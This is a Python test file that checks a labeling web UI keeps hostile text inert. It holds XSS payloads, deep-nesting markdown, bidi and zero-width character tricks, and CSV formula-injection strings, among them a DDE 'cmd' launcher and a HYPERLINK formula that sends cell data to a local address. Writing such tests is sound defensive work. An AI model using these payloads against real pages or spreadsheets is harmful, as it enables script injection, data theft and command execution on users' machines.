"""Hostile input (issue 6), text: prompts, responses, judge output and notes show as inert text
on the real Label-tab path (handlers over a real database); invisible and direction characters
are shown as codes and exported byte-exact; no exported CSV cell can run as a formula.
"""

from __future__ import annotations

import csv
import io
import json

import pytest
from hostile import assert_inert, import_hostile, label_handlers, pair_ids, store_judgment, viewer

from webui.judge_view import JudgeDisplay, display_from_rows
from webui.render import safe_markdown

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def screen_html(screen: dict) -> list[str]:
    """The HTML strings among the Label tab's outputs (states left out)."""
    return [value for value in screen.values() if isinstance(value, str)]


# --- display: hostile text is inert on the real Label-tab path ---------------------------------

HOSTILE_TEXT = [
    ("script", "<script>window.__pwned=1</script>"),
    ("img-onerror", '<img src=x onerror="window.__pwned=1">'),
    ("svg-onload", "<svg onload=alert(1)><circle r=9></circle></svg>"),
    ("iframe", '<iframe src="http://127.0.0.1:9/frame"></iframe>'),
    ("javascript-link", "[click me](javascript:alert(document.cookie))"),
    ("raw-javascript-anchor", '<a href="javascript:alert(1)">click</a>'),
    ("entity-encoded-javascript-link", "[x](&#106;avascript:alert(1))"),
    ("data-url-link", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("data-url-image", "![pixel](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=http://127.0.0.1:9/">'),
    ("mathml-xlink", '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'),
]


@pytest.mark.parametrize("text", [t for _, t in HOSTILE_TEXT], ids=[n for n, _ in HOSTILE_TEXT])
def test_hostile_text_in_pair_judge_output_and_notes_is_inert(services, tmp_path, text) -> None:
    rows = [{"prompt": f"prompt-text {text}", "response_a": f"answer-a {text}",
             "response_b": f"answer-b {text}", "category": text[:60]}]  # fmt: skip
    dataset_id = import_hostile(services, tmp_path, "hostile", rows)
    (pair_id,) = pair_ids(services, dataset_id)
    store_judgment(
        services, pair_id, principles=f"principle-text {text}", critique=f"critique-text {text}",
        error=f"error-text {text}",
    )  # fmt: skip
    services.save_label(pair_id, "someone", "B", note=f"note-text {text}", corrected_critique=text)
    handlers = label_handlers(services)

    screen = handlers.open_next("viewer", dataset_id, viewer())
    current = screen[handlers.ui.current]
    shown = [*screen_html(screen), handlers.pair_history(current)]

    assert current["pair_id"] == pair_id
    for markup in shown:
        assert_inert(markup)
    page = "".join(shown)
    markers = ("prompt-text", "answer-a", "answer-b", "principle-", "critique-", "error-", "note-")
    for marker in markers:  # every text is on screen, as text
        assert marker in page, marker


def test_stored_judgment_with_an_unknown_verdict_shows_it_as_text() -> None:
    row = {"id": 1, "sample_index": 0, "swapped": False, "status": "complete", "critique": "x"}
    view = display_from_rows([{**row, "verdict": "<b onmouseover=alert(1)>A</b>"}])
    assert_inert(view.badge())
    assert "&lt;b onmouseover" in view.badge()


DEEP = {
    "5000-quote-markers": ">" * 5000 + " deep",
    "5000-list-markers": "- " * 5000 + "deep",
    "5000-indented-list-levels": "\n".join("  " * i + f"- item{i}" for i in range(5000)) + "deep",
    "5000-nested-emphasis": "*" * 5000 + "deep" + "*" * 5000,
    "5000-nested-brackets": "[" * 5000 + "deep" + "](x)" * 5000,
    "5000-nested-html-divs": "<div>" * 5000 + "deep" + "</div>" * 5000,
    "quote-list-mix": "> 1. - " * 2000 + "deep",
}


@pytest.mark.parametrize("text", DEEP.values(), ids=DEEP.keys())
def test_deeply_nested_markdown_renders_as_safe_text(text: str) -> None:
    shown = safe_markdown(text)
    assert shown.startswith('<div class="grm-md"')
    assert "deep" in shown or "Showing the first" in shown
    assert_inert(shown)
    for panel in JudgeDisplay(principles=text, critique=text).panels():  # judge output too
        assert_inert(panel)


def test_list_nested_past_the_parser_limit_loses_no_line() -> None:
    # markdown-it stops at its nesting limit and drops everything after it; the page must show
    # every line of the response (as plain text if need be), not silently a part of it.
    text = "\n".join("  " * i + f"- item{i}" for i in range(40))
    shown = safe_markdown(text)
    missing = [i for i in range(40) if f"item{i}\n" not in shown and f"item{i}<" not in shown]
    assert missing == []


# --- direction and invisible characters: shown as codes, exported byte-exact ------------------

TRICKS = {
    "prompt": "Rename \u202egpj.exe\u202c please",
    "response_a": "pay\u200b pal\u200d and \u2066isolate\u2069 \ufeffbom",
    "response_b": "\u200fRLM \u202bembedding\u202c \u00adsoft hyphen",
    "category": "rtl\u202e",
}


def test_direction_and_zero_width_characters_are_visible_and_exported_byte_exact(
    services, tmp_path
) -> None:
    dataset_id = import_hostile(services, tmp_path, "tricks", [TRICKS])
    (pair_id,) = pair_ids(services, dataset_id)
    note = "note\u202e with override"
    services.save_label(pair_id, "ana", "A", note=note)

    handlers = label_handlers(services)
    screen, ui = handlers.open_next("viewer", dataset_id, viewer()), handlers.ui
    shown = (TRICKS["category"], TRICKS["prompt"], TRICKS["response_a"], TRICKS["response_b"])
    for markup, raw in zip(
        [screen[c] for c in (ui.meta, ui.prompt, ui.a, ui.b)], shown, strict=True
    ):
        for char in {c for c in raw if not c.isprintable()}:
            assert char not in markup, f"U+{ord(char):04X} reached the page unescaped"
            assert f"[U+{ord(char):04X}]" in markup

    for fmt in ("jsonl", "csv"):
        out = tmp_path / f"tricks.{fmt}"
        services.export(out, fmt, dataset="tricks")
        data = out.read_bytes()
        for value in (*TRICKS.values(), note):
            assert value.encode("utf-8") in data, (fmt, value)
        if fmt == "jsonl":
            row = json.loads(data.decode("utf-8"))
        else:
            row = next(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
        assert {k: row[k] for k in TRICKS} == TRICKS
        assert row["note"] == note


# --- CSV formula injection on export ----------------------------------------------------------

FORMULAS = {
    "hyperlink": '=HYPERLINK("http://127.0.0.1:9/?d="&A1,"Click for details")',
    "dde": "=cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+9)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage-return": "\r=1+1",
}


@pytest.mark.parametrize("formula", FORMULAS.values(), ids=FORMULAS.keys())
def test_formula_in_any_exported_text_is_escaped_in_csv_only(services, tmp_path, formula) -> None:
    # The dataset name, the annotator's name, notes, critiques, ids: every text a person or a
    # file supplies ends up in a cell.
    row = {"id": formula, "prompt": formula, "response_a": formula, "response_b": f"{formula} ",
           "reference": formula, "category": formula[:60]}  # fmt: skip
    dataset_id = import_hostile(services, tmp_path, "=SUM(1)", [row])
    (pair_id,) = pair_ids(services, dataset_id)
    judgment = store_judgment(services, pair_id, principles=formula, critique=formula)
    services.save_label(
        pair_id, "@mallory", "A", judgment_id=judgment, note=formula, corrected_critique=formula
    )
    out = tmp_path / "labels.csv"
    services.export(out, "csv")

    with out.open(newline="", encoding="utf-8") as handle:
        (cells,) = list(csv.DictReader(handle))
    dangerous = {k: v for k, v in cells.items() if v.startswith(FORMULA_STARTS)}
    assert dangerous == {}
    assert cells["note"] == "'" + formula and cells["annotator"] == "'@mallory"
    assert cells["dataset"] == "'=SUM(1)"

    services.export(tmp_path / "labels.jsonl", "jsonl")  # JSON is data: kept exactly
    exact = json.loads((tmp_path / "labels.jsonl").read_text("utf-8"))
    assert (exact["note"], exact["prompt"], exact["annotator"]) == (formula, formula, "@mallory")
